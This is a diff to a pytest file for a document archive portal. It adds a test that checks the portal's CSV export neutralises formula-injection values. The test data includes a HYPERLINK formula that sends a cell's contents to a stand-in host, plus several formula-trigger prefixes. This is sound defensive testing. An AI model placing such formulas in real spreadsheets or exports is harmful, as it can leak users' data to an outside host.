@@ -250,3 +250,14 @@ def test_an_inactive_account_opens_and_finds_nothing(world):
                  lambda: search(system, gone, "合同")):
         with pytest.raises(NotAllowed):
             call()
+
+
+def test_every_csv_the_portal_writes_keeps_formulas_inert():
+    import csv
+    import io
+
+    from archive_store import csvfile
+
+    hostile = ['=HYPERLINK("http://x/"&A1)', "+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "正常文字"]
+    back = list(csv.reader(io.StringIO(csvfile.text([hostile]).lstrip("\ufeff"))))[0]
+    assert back[-1] == "正常文字" and all(c.startswith("'") for c in back[:-1])
